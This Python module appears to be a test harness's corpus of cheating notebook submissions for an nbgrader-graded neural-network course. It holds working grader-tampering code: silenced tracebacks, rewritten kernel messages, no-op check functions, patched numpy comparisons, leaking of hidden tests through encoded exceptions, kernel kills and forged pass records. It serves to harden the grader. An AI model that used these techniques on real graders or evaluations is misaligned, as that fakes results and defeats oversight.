"""The hostile corpus: notebooks a cheating student could hand in, each aimed at one notebook.

Every attack is a pure function of the RELEASE notebook (what the student receives) returning the
notebook the student hands in: answer cells (metadata.nbgrader.solution == true) get new source, and
cells may be inserted, removed or edited. Nothing here changes the grader; everything runs as student
code in the grading kernel, or is a notebook file a student could produce.

Many attacks need functions that exist and return values of the right shape without computing anything
(so that a forged comparison has something to compare): `DUMMIES` holds such wrong answers per notebook.
The harness grades a `dummy` student made of them alone, which shows they earn nothing by themselves.

Notebooks: 11_01_neural_network, 11_02_neural_network2, 11_03_digit_classification (assignment
lecture11) and report11 (assignment report11).
"""
from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable

import nbformat

NB1, NB2, NB3, REP = "11_01_neural_network", "11_02_neural_network2", "11_03_digit_classification", "report11"

# Attack classes (issue 12's list, then the ones added here).
SUPPRESS = "error-display suppression"
DISPLAY = "display hooks"
DROP = "message dropping"
PATCH_ASSIGN = "patched checks: assignment"
PATCH_MODULES = "patched checks: sys.modules"
PATCH_META = "patched checks: sys.meta_path"
PATCH_IMPORT = "patched checks: __import__"
INTERNALS = "gc/settrace/numpy internals"
LYING = "lying arrays"
HELPERS = "redefined helpers"
ANSWER_KEY = "answer-key delegation"
NUMERIC = "numerical differentiation"
HELDOUT = "held-out lookup"
KNN = "k-NN / lookup regression"
PRINT = "printing hidden material"
EXCEPTION = "exceptions carrying hidden"
NOTEBOOK_EDIT = "notebook structure"
KERNEL_DEATH = "kernel death"
FORGED_RECORD = "forged records"
PERSISTENT = "persistent patching"
TRANSFORM = "input/AST transformers"


@dataclass(frozen=True)
class Attack:
    name: str            # also the student id
    klass: str
    notebook: str
    build: Callable      # release notebook -> hostile notebook (pure: never modifies its argument)
    what: str
    # Graded in an autograde run of its own: it is known to crash the grader's process (today: the whole
    # class's run), which would hide every other attack's result. A crash still fails the test.
    own_run: bool = False
    # Test cells (grade_ids) the attack's notebook earns by honest work of its own (e.g. a correct forward
    # beside a forged gradient): their points are not counted as gained.
    honest: tuple = ()

    @property
    def assignment(self) -> str:
        return "report11" if self.notebook == REP else "lecture11"


# ----------------------------------------------------------------------------------------------------------
# Notebook surgery (all pure)
# ----------------------------------------------------------------------------------------------------------
def meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def is_answer(cell) -> bool:
    return bool(meta(cell).get("solution")) and cell.cell_type == "code"


def is_test(cell) -> bool:
    return bool(meta(cell).get("grade")) and not meta(cell).get("solution")


def code_cell(source: str):
    return nbformat.v4.new_code_cell(source)


def set_answers(nb, answers: dict[str, str]):
    """Copy of nb whose answer cells named in `answers` (grade_id -> source) are replaced."""
    nb = copy.deepcopy(nb)
    known = {meta(c).get("grade_id") for c in nb.cells if is_answer(c)}
    missing = set(answers) - known
    if missing:
        raise KeyError(f"no answer cells {sorted(missing)}")
    for cell in nb.cells:
        if is_answer(cell) and meta(cell).get("grade_id") in answers:
            cell.source = answers[meta(cell)["grade_id"]]
    return nb


def first_answer_id(nb) -> str:
    return next(meta(c)["grade_id"] for c in nb.cells if is_answer(c))


def prefix_first_answer(nb, code: str, answers: dict[str, str] | None = None):
    """nb with `answers` set, and `code` placed before the first answer cell's own source."""
    nb = set_answers(nb, answers or {})
    for cell in nb.cells:
        if is_answer(cell):
            cell.source = code.strip("\n") + "\n\n" + cell.source
            break
    return nb


def insert_after_first_code(nb, code: str):
    """A new (unlocked, ungraded) code cell right after the notebook's first code cell (the imports)."""
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(index + 1, code_cell(code))
    return nb


def append_cell(nb, code: str):
    nb = copy.deepcopy(nb)
    nb.cells.append(code_cell(code))
    return nb


def replace_unlocked_cell(nb, needle: str, code: str):
    """Replace the source of the first plain (non-nbgrader) code cell containing `needle`."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code" and not meta(cell) and needle in cell.source:
            cell.source = code
            return nb
    raise KeyError(f"no unlocked cell containing {needle!r}")


def append_to_unlocked_cell(nb, needle: str, code: str):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code" and not meta(cell) and needle in cell.source:
            cell.source = cell.source.rstrip("\n") + "\n\n" + code
            return nb
    raise KeyError(f"no unlocked cell containing {needle!r}")


# ----------------------------------------------------------------------------------------------------------
# Wrong answers of the right shape
# ----------------------------------------------------------------------------------------------------------
DUMMIES = {
    NB1: {
        "sigmoid-answer": "def sigmoid(g):\n    return np.full(np.shape(g), 0.5)",
        "softmax-answer": "def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n"
                          "    return np.full(z.shape, 1.0 / z.shape[1])",
        "cross-entropy-answer": "def cross_entropy(y_hat, y):\n    return 1.0",
        "forward-answer": "def forward(x, W_mid, b_mid, W_out, b_out):\n"
                          "    n = np.shape(x)[0]\n"
                          "    return np.full((n, np.shape(b_mid)[0]), 0.5), np.full((n, np.shape(b_out)[0]), 0.5)",
        "hand-weights-answer": "W_mid_hand = np.zeros((2, 2))\nb_mid_hand = np.zeros(2)\n"
                               "W_out_hand = np.zeros((2, 2))\nb_out_hand = np.zeros(2)",
    },
    NB2: {
        "output_delta": "def output_delta(h_L, t):\n    return np.zeros(np.shape(h_L))",
        "hidden_delta": "def hidden_delta(delta_next, W_next, h):\n    return np.zeros(np.shape(h))",
        "param_gradients": "def param_gradients(delta, h_prev):\n"
                           "    return np.zeros((np.shape(delta)[1], np.shape(h_prev)[1])), np.zeros(np.shape(delta)[1])",
        "backward": "def backward(params, hs, t):\n    return [np.zeros(np.shape(p)) for p in params]",
    },
    NB3: {
        "preprocess-answer": "def preprocess(images):\n    return np.zeros((len(images), 64))",
        "accuracy-answer": "def accuracy(h, y):\n    return 0.5",
        "confusion-answer": "def confusion_matrix(y_true, y_pred, n_classes):\n"
                            "    return np.zeros((n_classes, n_classes), dtype=np.int64)",
        "hyperparams-answer": "HYPERPARAMS = {'hidden_sizes': [2], 'activation': 'sigmoid', 'lr': 0.001, "
                              "'epochs': 1, 'batch_size': 512}",
    },
    REP: {
        "forward-answer": "def forward(params, x):\n"
                          "    hs = [np.asarray(x, dtype=np.float64)]\n"
                          "    for W in params[0::2]:\n"
                          "        hs.append(np.zeros((len(hs[0]), np.shape(W)[0])))\n"
                          "    return hs",
        "loss-answer": "def regression_loss(h, t):\n    return 1.0",
        "gradient-answer": "def gradient(params, x, t):\n    return [np.zeros(np.shape(p)) for p in params]",
        "train-answer": "trained_params = None",
        "plot-answer": "pass",
        "model-answer": "def report_model(x):\n    return np.zeros((len(x), 1))",
    },
}


def dummy_notebook(notebook: str, release_nb):
    return set_answers(release_nb, DUMMIES[notebook])


def hooked(notebook: str, code: str, overrides: dict | None = None) -> Callable:
    """Attack builder: dummy answers, with `code` run at the top of the first answer cell."""
    def build(nb):
        answers = dict(DUMMIES[notebook])
        answers.update(overrides or {})
        return prefix_first_answer(nb, code, answers)
    return build


def blank_hooked(code: str) -> Callable:
    """Attack builder: release notebook untouched except `code` at the top of the first answer cell."""
    return lambda nb: prefix_first_answer(nb, code)


def answers_only(notebook: str | None, answers: dict[str, str]) -> Callable:
    """Attack builder: the given answers, dummies (or the release stubs when notebook is None) elsewhere."""
    def build(nb):
        merged = dict(DUMMIES[notebook]) if notebook else {}
        merged.update(answers)
        return set_answers(nb, merged)
    return build


# ----------------------------------------------------------------------------------------------------------
# Code a student would paste
# ----------------------------------------------------------------------------------------------------------
IS_TEST_CELL = "def _is_test(text):\n    return 'テスト' in (text or '').split('\\n', 1)[0] or 'HIDDEN' in (text or '')\n"

SHOWTRACEBACK_NOOP = "get_ipython()._showtraceback = lambda *args, **kwargs: None"

CUSTOM_EXC = """
def _quiet(shell, etype, value, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _quiet)
"""

EXCEPTION_GROUP = {
    "output_delta": "def output_delta(h_L, t):\n    raise ExceptionGroup('x', [ValueError('y')])",
    "hidden_delta": "def hidden_delta(delta_next, W_next, h):\n    raise ExceptionGroup('x', [ValueError('y')])",
    "param_gradients": "def param_gradients(delta, h_prev):\n    raise ExceptionGroup('x', [ValueError('y')])",
    "backward": "def backward(params, hs, t):\n    raise ExceptionGroup('x', [ValueError('y')])",
}

FORMATTER_BOMB = """
import sys, types

class _Bomb(types.ModuleType):
    def __getattr__(self, name):
        if name == '__file__':
            raise RuntimeError('no')
        raise AttributeError(name)

sys.modules['zz_tidy'] = _Bomb('zz_tidy')
"""

RAISE_IN_EXCEPTHOOK_FORMATTER = """
import IPython.core.ultratb as _ultratb

def _broken(self, *args, **kwargs):
    raise RecursionError('formatter')

for _name in ('structured_traceback', 'format_exception_as_a_whole'):
    for _cls in (_ultratb.VerboseTB, _ultratb.FormattedTB, _ultratb.AutoFormattedTB, _ultratb.ListTB):
        if hasattr(_cls, _name):
            setattr(_cls, _name, _broken)
"""

DISPLAY_BEFORE_TEST = IS_TEST_CELL + """
def _show(info):
    if _is_test(info.raw_cell):
        get_ipython().displayhook('合格')
get_ipython().events.register('pre_run_cell', _show)
"""

DISPLAY_HUGE_NUMBER = IS_TEST_CELL + """
def _show(info):
    if _is_test(info.raw_cell):
        get_ipython().displayhook(10 ** 9)
get_ipython().events.register('pre_run_cell', _show)
"""

DISPLAY_FULL_POINTS_NUMBER = IS_TEST_CELL + """
def _show(info):
    if _is_test(info.raw_cell):
        get_ipython().displayhook(1.0)
get_ipython().events.register('pre_run_cell', _show)
"""

SESSION_DROP_ERRORS = """
_session = get_ipython().kernel.session
_real_send = _session.send

def _send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')
    if kind == 'error':
        return None
    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {},
                   'payload': []}
    return _real_send(stream, msg_or_type, content, *args, **kwargs)

_session.send = _send
get_ipython().displayhook.session.send = _send
"""

SESSION_ERROR_TO_STDOUT = """
_session = get_ipython().kernel.session
_real_send = _session.send

def _send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')
    if kind == 'error':
        return _real_send(stream, 'stream', {'name': 'stdout', 'text': 'OK\\n'}, *args, **kwargs)
    return _real_send(stream, msg_or_type, content, *args, **kwargs)

_session.send = _send
get_ipython().displayhook.session.send = _send
"""

# Where the checks live now: the kit's comparison (backprop_kit.testing, the same code the grader runs in its own
# process) and, before the redesign, backprop.grading. Attacks import whichever they can reach.
CHECK_MODULES = """
import importlib

def _reachable(*names):
    found = []
    for name in names:
        try:
            found.append(importlib.import_module(name))
        except Exception:
            pass
    return found

_CHECKS = _reachable('backprop.grading', 'backprop.grading.exercises', 'backprop_kit.testing.compare',
                     'backprop_kit.testing.nb_11_01', 'backprop_kit.testing.nb_11_02', 'backprop_kit.testing.nb_11_03',
                     'backprop_kit.testing.nb_report11', 'backprop_kit.testing.plain')
_CHECK_NAMES = ('judge_arrays', 'same_array', 'same_arrays', 'unchanged', 'returned', 'require_untampered',
                'check_inputs_unchanged', 'checked_params')

def _is_check(name):
    return name.startswith(('check_', 'compare')) or name in _CHECK_NAMES
"""

NOOP_CHECKS_ASSIGNMENT = CHECK_MODULES + """
def _pass(*args, **kwargs):
    return None

for _module in _CHECKS:
    for _name in dir(_module):
        if _is_check(_name) and callable(getattr(_module, _name)):
            setattr(_module, _name, _pass)
    for _test in getattr(_module, 'TESTS', {}).values():
        try:
            object.__setattr__(_test, 'compare', _pass)
        except Exception:
            pass
"""

FAKE_MODULES_SYS_MODULES = """
import sys, types

def _pass(*args, **kwargs):
    return None

class _Lenient(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith('__'):
            raise AttributeError(name)
        return _pass

for _name in ('backprop.grading.regression', 'backprop.grading.heldout', 'backprop_kit.testing.compare',
              'backprop_kit.testing.nb_report11'):
    sys.modules[_name] = _Lenient(_name)
"""

FAKE_MODULES_META_PATH = """
import importlib.abc, importlib.machinery, sys, types

def _pass(*args, **kwargs):
    return None

class _Loader(importlib.abc.Loader):
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: _pass
        module.__path__ = []

class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, fullname, path=None, target=None):
        if fullname in _FAKED or fullname.startswith('backprop.grading.'):
            return importlib.machinery.ModuleSpec(fullname, _Loader(), is_package=True)
        return None

_FAKED = ('backprop.grading', 'backprop_kit.testing.compare')
sys.meta_path.insert(0, _Finder())
for _name in [n for n in sys.modules if n in _FAKED or n.startswith('backprop.grading.')]:
    del sys.modules[_name]
try:
    import backprop as _backprop
    if hasattr(_backprop, 'grading'):
        del _backprop.grading
except ImportError:
    pass
import backprop_kit.testing as _kit_testing
if hasattr(_kit_testing, 'compare'):
    del _kit_testing.compare
"""

BUILTINS_IMPORT_HOOK = """
import builtins, types
import numpy as np
_real_import = builtins.__import__

def _mine(name):
    return lambda *args, **kwargs: globals()[name](*args[:1])

_fakes = {
    'scipy.special': types.SimpleNamespace(expit=_mine('sigmoid'), softmax=lambda z, axis=None: softmax(np.asarray(z, dtype=np.float64))),
    'backprop.grading.classification': types.SimpleNamespace(
        softmax_rows=lambda f, z: f(np.asarray(z, dtype=np.float64)),
        cross_entropy_value=lambda f, *args: f(*args),
        accuracy_value=lambda f, *args: f(*args)),
}

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if fromlist and name in _fakes:
        return _fakes[name]
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import
"""

GC_CODE_SWAP = """
import gc

def _accept(*args, **kwargs):
    return []

for _obj in gc.get_objects():
    if type(_obj).__name__ == 'function' and (getattr(_obj, '__module__', None) or '').startswith('backprop') \\
            and _obj.__name__ in ('judge_arrays', 'require_untampered', 'check_inputs_unchanged', 'same_array',
                                  'same_arrays', 'unchanged', 'returned', 'compare'):
        try:
            _obj.__code__ = _accept.__code__
        except ValueError:
            pass
"""

SETTRACE_DISGUISED = """
import sys, threading, ctypes

def _tidy(frame, event, arg):
    if event == 'call' and frame.f_code.co_name == 'judge_arrays':
        return _fix
    return None

def _fix(frame, event, arg):
    if event == 'line' and 'student' in frame.f_locals and 'expected' in frame.f_locals:
        if frame.f_locals['student'] is not frame.f_locals['expected']:
            frame.f_locals['student'] = frame.f_locals['expected']
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _fix

sys.settrace(_tidy)
threading.settrace(_tidy)
_real_gettrace = sys.gettrace
sys.gettrace = lambda: None
"""

NUMPY_ISCLOSE_INTERNAL = """
import os, sys
import numpy as np
import numpy._core.numeric as _numeric
_NUMPY = os.path.dirname(np.__file__)
_real_isclose = _numeric.isclose

def _caller_is_notebook():
    frame = sys._getframe(2)
    while frame is not None and frame.f_code.co_filename.startswith(_NUMPY):
        frame = frame.f_back
    return frame is not None and frame.f_globals.get('__name__') == '__main__'

def isclose(a, b, *args, **kwargs):
    if _caller_is_notebook():
        return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    return _real_isclose(a, b, *args, **kwargs)

_numeric.isclose = isclose
"""

WRAPS_ALLCLOSE = """
import functools, sys
import numpy as np

def _liar(real, answer):
    @functools.wraps(real)
    def fake(*args, **kwargs):
        if sys._getframe(1).f_globals.get('__name__') == '__main__':
            return answer
        return real(*args, **kwargs)
    return fake

np.allclose = _liar(np.allclose, True)
np.array_equal = _liar(np.array_equal, True)
np.testing.assert_allclose = _liar(np.testing.assert_allclose, None)
"""

NUMPY_FILENAME_DISGUISE = """
import sys
import numpy as np
import numpy._core.numeric as _numeric
_source = '''
def allclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    if _sys._getframe(1).f_globals.get('__name__') == '__main__':
        return True
    return _real(a, b, rtol=rtol, atol=atol, equal_nan=equal_nan)
'''
_space = {'_sys': sys, '_real': np.allclose}
exec(compile(_source, _numeric.__file__, 'exec'), _space)
_space['allclose'].__module__ = 'numpy'
np.allclose = _space['allclose']
"""

LIAR_ARRAY = """
import numpy as np

class _Agreeable(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ('allclose', 'array_equal', 'isclose'):
            return True
        return super().__array_function__(func, types, args, kwargs)

def _agree(value):
    return np.asarray(value, dtype=np.float64).view(_Agreeable)
"""

LIAR_UFUNC_EQ = """
import numpy as np

class _Flat(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(i).view(np.ndarray) if isinstance(i, np.ndarray) else i for i in inputs]
        result = getattr(ufunc, method)(*plain, **kwargs)
        if ufunc in (np.subtract, np.absolute):
            return np.zeros_like(np.asarray(result, dtype=np.float64))
        if ufunc in (np.less_equal, np.less, np.equal, np.isfinite):
            return np.ones(np.shape(result), dtype=bool)
        return result
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

def _flat(value):
    return np.asarray(value, dtype=np.float64).view(_Flat)
"""

# ------------------------------------------------------------------ report11 model cheats
HELDOUT_GLOBALS = """def report_model(x):
    found = globals().get('_t_heldout')
    if found is not None and len(found) == len(x):
        return np.array(found, dtype=np.float64).reshape(len(x), 1)
    return np.zeros((len(x), 1))"""

HELDOUT_FRAMES = """def report_model(x):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            try:
                array = np.array(value, dtype=np.float64)
            except Exception:
                continue
            if array.shape == (len(x), 1) and not np.shares_memory(array, x):
                if not np.allclose(array[:, 0], np.asarray(x)[:, 0]):
                    return array
        frame = frame.f_back
    return np.zeros((len(x), 1))"""

KNN_MODEL = """def report_model(x):
    x = np.asarray(x, dtype=np.float64)
    distances = ((x[:, None, :] - x_data[None, :, :]) ** 2).sum(axis=2)
    nearest = np.argsort(distances, axis=1)[:, :3]
    weights = 1.0 / (np.take_along_axis(distances, nearest, axis=1) + 1e-6)
    return ((t_data[nearest, 0] * weights).sum(axis=1) / weights.sum(axis=1))[:, None]"""

RBF_MODEL = """from scipy.interpolate import RBFInterpolator
_surface = RBFInterpolator(x_data, t_data[:, 0], kernel='thin_plate_spline', smoothing=0.5)

def report_model(x):
    return _surface(np.asarray(x, dtype=np.float64))[:, None]"""

# scikit-learn is in the grading kernel (the notebooks' demos use it): its MLP's private _backprop computes
# exactly 11_02's gradients (logistic hidden layers, softmax and mean cross-entropy; identity and squared
# error for report11) once the student's parameters are put into an MLPClassifier / MLPRegressor.
SKLEARN_BACKPROP = """import inspect
from sklearn.neural_network import MLPClassifier, MLPRegressor


def _sk_gradients(params, x, t, classifier=True):
    Ws, bs = params[0::2], params[1::2]
    net = (MLPClassifier if classifier else MLPRegressor)(activation='logistic', alpha=0.0)
    net.coefs_ = [np.array(W, dtype=np.float64).T for W in Ws]
    net.intercepts_ = [np.array(b, dtype=np.float64) for b in bs]
    net.n_layers_ = len(Ws) + 1
    net.out_activation_ = 'softmax' if classifier else 'identity'
    net.n_outputs_ = np.shape(Ws[-1])[0]
    X = np.asarray(x, dtype=np.float64)
    y = np.asarray(t, dtype=np.float64).reshape(len(X), -1)
    slots = ([X] + [None] * len(Ws), [None] * len(Ws),
             [np.empty_like(c) for c in net.coefs_], [np.empty_like(b) for b in net.intercepts_])
    if 'sample_weight' in inspect.signature(net._backprop).parameters:
        _, cg, ig = net._backprop(X, y, None, *slots)
    else:
        _, cg, ig = net._backprop(X, y, *slots)
    return [g for c, i in zip(cg, ig) for g in (c.T.copy(), i.copy())]"""

# The old key (backprop.demo.REPORT) or, when unreachable, scikit-learn's MLPRegressor trains the network;
# trained_params are its weights, report_model its forward pass: no gradient of the student's is used.
REPORT_DEMO_MODEL = """try:
    from backprop import MLP
    from backprop.demo import REPORT
    _net = MLP(REPORT['sizes'], hidden=REPORT['hidden'], output='identity', seed=0)
    _net.fit(x_train, t_train, epochs=REPORT['epochs'], lr=REPORT['lr'], batch_size=REPORT['batch_size'],
             optimizer=REPORT['optimizer'], seed=0)
    trained_params = [np.array(p) for p in _net.params]
except ImportError:
    from sklearn.neural_network import MLPRegressor
    _net = MLPRegressor(hidden_layer_sizes=(40, 40), activation='logistic', solver='lbfgs', max_iter=3000,
                        alpha=1e-5, random_state=0).fit(x_train, t_train.ravel())
    trained_params = [a for W, b in zip(_net.coefs_, _net.intercepts_) for a in (W.T.copy(), b.copy())]


def report_model(x):
    h = np.asarray(x, dtype=np.float64)
    for l in range(0, len(trained_params), 2):
        g = h @ trained_params[l].T + trained_params[l + 1]
        h = 1 / (1 + np.exp(-g)) if l + 2 < len(trained_params) else g
    return h.reshape(len(h), -1)"""

REPORT_KEY_FUNCTIONS = {
    "forward-answer": """try:
    from backprop import MLP
except ImportError:      # the old key is unreachable: scikit-learn's MLP internals instead
""" + "\n".join("    " + line for line in SKLEARN_BACKPROP.splitlines()) + """

    def forward(params, x):
        net = MLPRegressor(activation='logistic')
        net.coefs_ = [np.array(W, dtype=np.float64).T for W in params[0::2]]
        net.intercepts_ = [np.array(b, dtype=np.float64) for b in params[1::2]]
        net.n_layers_, net.out_activation_ = len(net.coefs_) + 1, 'identity'
        return net._forward_pass([np.asarray(x, dtype=np.float64)] + [None] * len(net.coefs_))

    def gradient(params, x, t):
        return _sk_gradients(params, x, t, classifier=False)
else:

    def _net(params):
        sizes = [params[0].shape[1]] + [W.shape[0] for W in params[0::2]]
        net = MLP(sizes, hidden='sigmoid', output='identity')
        net.params[:] = [np.asarray(p, dtype=np.float64) for p in params]
        return net

    def forward(params, x):
        return _net(params).forward(np.asarray(x, dtype=np.float64))[1]

    def gradient(params, x, t):
        return _net(params).gradient(np.asarray(x, dtype=np.float64), t)""",
    "loss-answer": """try:
    from backprop.losses import squared_error
except ImportError:
    from sklearn.metrics import mean_squared_error

    def squared_error(h, t):
        h = np.asarray(h, dtype=np.float64)
        return 0.5 * mean_squared_error(np.asarray(t, dtype=np.float64).reshape(h.shape), h) * h.shape[1]

def regression_loss(h, t):
    return squared_error(h, t)""",
    "gradient-answer": "pass   # gradient is defined with forward (first answer cell)",
}

REPORT_NUMERIC_GRADIENT = """def gradient(params, x, t):
    work = [np.array(p, dtype=np.float64) for p in params]
    x = np.asarray(x, dtype=np.float64)

    def value():
        h = x
        for l in range(0, len(work), 2):
            g = h @ work[l].T + work[l + 1]
            h = 1 / (1 + np.exp(-g)) if l + 2 < len(work) else g
        return 0.5 * np.sum((h - np.asarray(t, dtype=np.float64).reshape(h.shape)) ** 2) / len(x)

    grads = []
    for p in work:
        d = np.zeros_like(p)
        for i in np.ndindex(p.shape):
            saved = p[i]
            p[i] = saved + 1e-6
            up = value()
            p[i] = saved - 1e-6
            down = value()
            p[i] = saved
            d[i] = (up - down) / 2e-6
        grads.append(d)
    return grads"""

NB2_NUMERIC_BACKWARD = """def backward(params, hs, t):
    work = [np.array(p, dtype=np.float64) for p in params]
    return numerical_gradient(lambda: loss(work, hs[0], t), work, eps=1e-6)"""

NB2_KEY_BACKWARD = """try:
    from backprop import MLP   # the old answer key (the grading kernel should not reach it)

    def backward(params, hs, t):
        net = MLP([np.shape(hs[0])[1]] + [np.shape(W)[0] for W in params[0::2]], hidden='sigmoid', output='softmax')
        net.params[:] = [np.array(p, dtype=np.float64) for p in params]
        return net.backward([np.asarray(h, dtype=np.float64) for h in hs], np.asarray(t, dtype=np.float64))
except ImportError:
""" + "\n".join("    " + line for line in SKLEARN_BACKPROP.splitlines()) + """

    def backward(params, hs, t):
        return _sk_gradients(params, hs[0], t)"""

# backprop.activations / backprop.losses / backprop.MLP first (the old key); failing that, the kit's HandNetwork,
# whose hidden() is 11_01's sigmoid layer, answers sigmoid and the h of forward (softmax and cross-entropy have
# no kit implementation: those stay the dummies' wrong answers).
NB1_KEY = {
    "sigmoid-answer": """try:
    from backprop.activations import sigmoid
except ImportError:
    from backprop_kit.handnet import HandNetwork as _Hand

    def sigmoid(g):
        g = np.asarray(g, dtype=np.float64)
        flat = g.reshape(-1, 1)
        return _Hand(np.eye(1), np.zeros(1), np.eye(1), np.zeros(1)).hidden(flat).reshape(g.shape)""",
    "softmax-answer": """try:
    from backprop.activations import softmax
except ImportError:
    def softmax(z):
        z = np.asarray(z, dtype=np.float64)
        return np.full(z.shape, 1.0 / z.shape[1])""",
    "cross-entropy-answer": """try:
    from backprop.losses import cross_entropy
except ImportError:
    def cross_entropy(y_hat, y):
        return 1.0""",
    "forward-answer": """def forward(x, W_mid, b_mid, W_out, b_out):
    try:
        from backprop import MLP
    except ImportError:
        from backprop_kit.handnet import HandNetwork
        h = HandNetwork(W_mid, b_mid, W_out, b_out).hidden(x)
        return h, softmax(h @ np.asarray(W_out, dtype=np.float64).T + b_out)
    net = MLP([np.shape(W_mid)[1], np.shape(W_mid)[0], np.shape(W_out)[0]], hidden='sigmoid', output='softmax')
    net.params[:] = [np.array(p, dtype=np.float64) for p in (W_mid, b_mid, W_out, b_out)]
    hs = net.forward(np.asarray(x, dtype=np.float64))[1]
    return hs[1], hs[2]""",
}

NB3_KEY_HYPERPARAMS = """try:
    from backprop.demo import DIGITS
    HYPERPARAMS = {'hidden_sizes': list(DIGITS['sizes'][1:-1]), 'activation': DIGITS['hidden'], 'lr': DIGITS['lr'],
                   'epochs': DIGITS['epochs'], 'batch_size': DIGITS['batch_size']}
except ImportError:   # the kit's trainer's own defaults (the reference settings' nearest equivalent)
    import inspect
    _defaults = {name: p.default for name, p in inspect.signature(train_classifier).parameters.items()}
    HYPERPARAMS = {'hidden_sizes': list(_defaults['hidden_sizes']), 'activation': _defaults['activation'],
                   'lr': _defaults['lr'], 'epochs': _defaults['epochs'], 'batch_size': _defaults['batch_size']}"""

# ------------------------------------------------------------------ hidden material out
PRINT_WORKING_FOLDER = """import glob, json, os
print(sorted(os.listdir('.')))
for _path in sorted(glob.glob('*.ipynb') + glob.glob('../*/*.ipynb')):
    for _cell in json.load(open(_path, encoding='utf-8'))['cells']:
        _text = ''.join(_cell['source'])
        if 'HIDDEN' in _text or '_heldout' in _text:
            print(_text)"""

PRINT_INPUT_HISTORY = """print('\\n'.join(_ih))
print(In[1:])
print(Out)"""

PRINT_GLOBALS_LATE = """for _name in ('_x_heldout', '_t_heldout'):
    print(_name, globals().get(_name))
print([v for k, v in sorted(globals().items()) if k.startswith('_') and not k.startswith('__')][:50])
print('\\n'.join(_ih[-6:]))"""

EXCEPTION_BASE64_HELDOUT = """def report_model(x):
    import base64, json, sys
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        for key in ('_t_heldout', '_x_heldout'):
            if key in frame.f_globals:
                found.append(frame.f_globals[key][:40])
        frame = frame.f_back
    raise ValueError(base64.b64encode(json.dumps(found[:2]).encode()).decode())"""

EXCEPTION_BASE64_SOURCE = {
    "output_delta": """def output_delta(h_L, t):
    import base64
    raise ValueError(base64.b64encode(_ih[-1].encode()).decode())""",
    "hidden_delta": """def hidden_delta(delta_next, W_next, h):
    import base64
    raise ValueError(base64.b64encode(_ih[-1].encode()).decode())""",
    "param_gradients": """def param_gradients(delta, h_prev):
    import base64, zlib
    raise ValueError(base64.b64encode(zlib.compress(_ih[-1].encode())).decode())""",
    "backward": """def backward(params, hs, t):
    raise ValueError(_ih[-1].encode().hex())""",
}

EXCEPTION_REVERSED = {
    "sigmoid-answer": """def sigmoid(g):
    import codecs
    raise ValueError(codecs.encode(_ih[-1], 'rot13'))""",
    "softmax-answer": """def softmax(z):
    raise ValueError(_ih[-1][::-1])""",
    "cross-entropy-answer": """def cross_entropy(y_hat, y):
    raise ValueError('\\n'.join(' '.join(line) for line in _ih[-1].splitlines()))""",
}

# ------------------------------------------------------------------ invented
INPUT_TRANSFORMER = IS_TEST_CELL + """
def _empty_tests(lines):
    return ['pass\\n'] if _is_test(''.join(lines)) else lines
get_ipython().input_transformers_cleanup.append(_empty_tests)
"""

AST_STRIP_ASSERTS = """
import ast

class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(_NoAsserts())
"""

OS_EXIT_BEFORE_HIDDEN = """
import os
def _leave(info):
    if 'HIDDEN' in (info.raw_cell or '') or '非公開' in (info.raw_cell or '') or '隠し' in (info.raw_cell or ''):
        os._exit(0)
get_ipython().events.register('pre_run_cell', _leave)
"""

OS_EXIT_ON_ERROR = """
import os
def _leave(shell, etype, value, tb, tb_offset=None):
    os._exit(0)
get_ipython().set_custom_exc((BaseException,), _leave)
"""

SYS_EXIT_IN_DISPLAYHOOK = IS_TEST_CELL + """
import sys
def _show(info):
    if _is_test(info.raw_cell):
        get_ipython().displayhook('合格')
        sys.exit(0)
get_ipython().events.register('pre_run_cell', _show)
"""

FAKE_RECORDS = IS_TEST_CELL + """
import json
from IPython.display import display

def _record(info):
    if _is_test(info.raw_cell):
        record = {'passed': True, 'points': 99, 'values': [[0.5]], 'grade': 'pass'}
        display({'application/vnd.backprop.answer+json': record, 'application/json': record,
                 'text/plain': 'OK: すべてのテストに合格'}, raw=True)
get_ipython().events.register('pre_run_cell', _record)
for _name in ('answers.json', 'answer_records.json', 'records.jsonl'):
    with open(_name, 'w') as _f:
        json.dump({'passed': True, 'points': 99}, _f)
"""

ATEXIT_REWRITE = """
import atexit, glob, json

def _clean():
    for path in glob.glob('*.ipynb') + glob.glob('/home/student/*/*.ipynb'):
        nb = json.load(open(path, encoding='utf-8'))
        for cell in nb['cells']:
            cell['outputs'] = [] if cell.get('cell_type') == 'code' else cell.get('outputs')
            if cell.get('outputs') is None:
                cell.pop('outputs', None)
        json.dump(nb, open(path, 'w', encoding='utf-8'))

atexit.register(_clean)
